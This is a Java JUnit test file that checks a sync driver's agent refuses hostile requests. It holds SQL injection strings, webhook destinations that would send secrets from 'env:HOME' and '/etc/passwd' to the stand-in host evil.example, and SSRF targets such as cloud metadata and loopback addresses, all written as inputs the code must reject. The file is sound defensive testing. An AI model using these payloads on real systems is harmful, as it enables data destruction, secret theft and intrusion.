package dev.backfeed.driver.agent;

import static org.assertj.core.api.Assertions.assertThat;

import dev.backfeed.driver.jdbc.Warehouses;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * What a person tries who may insert rows into {@code requests} and nothing else. Each attempt ends
 * in its row, with a reason, and leaves nothing behind.
 */
class RequestedAttacksTest {
  @TempDir static Path folder;

  private static AgentScene scene;
  private static AgentScene wide;
  private static Connection agent;
  private static Connection wideAgent;

  @BeforeAll
  static void begin() throws Exception {
    scene = AgentScene.on(Warehouses.POSTGRESQL, folder);
    scene.sync("people", "");
    scene.run("CREATE DESTINATION other TYPE webhook WITH (url = 'https://example.com/o')");
    agent =
        scene.agent(
            "backfeed.agent.requests", "define", "backfeed.agent.define_to", "hook, inside, files");
    wide = AgentScene.on(Warehouses.POSTGRESQL, folder);
    wideAgent = wide.agent("backfeed.agent.requests", "all");
  }

  @AfterAll
  static void end() throws Exception {
    agent.close();
    wideAgent.close();
    scene.close();
    wide.close();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "DROP TABLE people",
        "DELETE FROM people",
        "SYNC NOW people; DROP TABLE people",
        "CREATE DESTINATION leak TYPE webhook WITH (url = 'https://evil.example/x',"
            + " signing_secret = SECRET 'env:HOME')",
        "ALTER DESTINATION hook SET (base_url = 'https://evil.example')",
        "ALTER DESTINATION hook SET (url = 'https://evil.example')",
        "CREATE OR REPLACE SYNC people TO other.people KEY (id) AS SELECT id, name FROM people",
        "CREATE SYNC mine TO other.people KEY (id) AS SELECT id, name FROM people",
        "CREATE SYNC mine TO hook.people KEY (id) AS SELECT id FROM people) AS q; DROP TABLE people"
            + " --",
        "CREATE SYNC mine TO hook.people KEY (id) AS SELECT id FROM (people)) SELECT 1",
        "RESET SYNC people",
        "ERASE SYNC people KEY ('1') AND DESTINATION",
        "ALTER SYNC people SET (tags = 'x')",
        "UNDO RUN 'x'",
        "SHOW DESTINATIONS",
        "",
        "-- nothing",
        "SYNC NOW nobody",
        "SYNC NOW \"people\"\"; DROP TABLE people; --\"",
      })
  void isRefused(String statement) throws Exception {
    String request = scene.request(statement);

    assertThat(scene.answered(request)).isEqualTo("refused");
    assertThat(scene.of(request, "error")).isNotBlank();
    nothingHasChanged();
  }

  /** Even where every statement is let in, this host's settings hold. */
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "CREATE DESTINATION leak TYPE webhook WITH (url = 'https://evil.example/x', signing_secret ="
            + " SECRET 'env:HOME')|42501|env:HOME",
        "CREATE DESTINATION leak TYPE webhook WITH (url = 'https://evil.example/x', signing_secret ="
            + " SECRET 'file:/etc/passwd')|42501|file:",
        "CREATE DESTINATION leak TYPE webhook WITH (url = 'http://evil.example/x')|22023|https",
        "CREATE SYNC \"; DROP TABLE people; --\" TO nowhere.x KEY (id) AS SELECT 1 AS id|42704|"
            + "nowhere",
      })
  void isRefusedByTheHostsSettings(String statement, String state, String named) throws Exception {
    String request = wide.request(statement);

    assertThat(wide.answered(request)).isIn("refused", "failed");
    assertThat(wide.of(request, "error")).startsWith(state + ":").contains(named);
    assertThat(wide.number("SELECT COUNT(*) FROM backfeed.destinations")).isEqualTo(1);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "https://127.0.0.1:9/x",
        "https://localhost:9/x",
        "https://169.254.169.254/latest/meta-data",
        "https://[::ffff:10.0.0.1]/x",
        "https://2130706433/x"
      })
  void reachesNoAddressInside(String url) throws Exception {
    String name = "inside_" + Integer.toHexString(url.hashCode());
    scene.run(
        "CREATE DESTINATION "
            + name
            + " TYPE webhook WITH (url = '"
            + url
            + "', timeout = '2 seconds', max_retries = 0)");
    scene.run(
        "CREATE SYNC "
            + name
            + " TO "
            + name
            + ".people KEY (id) WITH (validate = FALSE) AS SELECT id, name FROM people");
    String request = scene.request("SYNC NOW " + name);

    assertThat(scene.answered(request)).isNotEqualTo("succeeded");
    assertThat(scene.of(request, "error"))
        .containsAnyOf("is not public", "never dialled", "is not known", "no address");
    scene.run("DROP SYNC " + name);
    scene.run("DROP DESTINATION " + name);
  }

  @Test
  void writesToNoFile() throws Exception {
    Path file = folder.resolve("app.duckdb");
    try (Connection app = java.sql.DriverManager.getConnection("jdbc:duckdb:" + file);
        var statement = app.createStatement()) {
      statement.execute("CREATE TABLE people (id INTEGER PRIMARY KEY, name VARCHAR)");
    }
    scene.run("CREATE DESTINATION files TYPE jdbc WITH (url = 'jdbc:duckdb:" + file + "')");
    scene.run("CREATE SYNC files TO files.people KEY (id) AS SELECT id, name FROM people");
    String request = scene.request("SYNC NOW files");

    assertThat(scene.answered(request)).isEqualTo("failed");
    assertThat(scene.of(request, "error")).contains("backfeed.files.dir");
    scene.run("DROP SYNC files");
    scene.run("DROP DESTINATION files");
    assertThat(Files.exists(file)).isTrue();
  }

  @Test
  void aSyncWithAHostileNameIsOnlyAName() throws Exception {
    scene.run(
        "CREATE SYNC \"; DROP TABLE people; --'\" TO hook.strange KEY (id) AS SELECT id FROM"
            + " people");
    String request = scene.request("SYNC NOW \"; DROP TABLE people; --'\"");

    assertThat(scene.answered(request)).isEqualTo("succeeded");
    scene.run("DROP SYNC \"; DROP TABLE people; --'\"");
    nothingHasChanged();
  }

  @Test
  void definesToNamedDestinationsOnly() throws Exception {
    String made =
        scene.request("CREATE SYNC made TO hook.made KEY (id) AS SELECT id, name FROM people");
    assertThat(scene.answered(made)).isEqualTo("succeeded");
    String dropped = scene.request("DROP SYNC made");
    assertThat(scene.answered(dropped)).isEqualTo("succeeded");
  }

  private static void nothingHasChanged() throws Exception {
    assertThat(scene.number("SELECT COUNT(*) FROM people")).isEqualTo(2);
    assertThat(scene.text("SELECT destination FROM backfeed.syncs WHERE name = 'people'"))
        .isEqualTo("hook");
    assertThat(scene.number("SELECT COUNT(*) FROM backfeed.destinations")).isEqualTo(2);
    assertThat(scene.number("SELECT COUNT(*) FROM backfeed.syncs")).isEqualTo(1);
  }
}
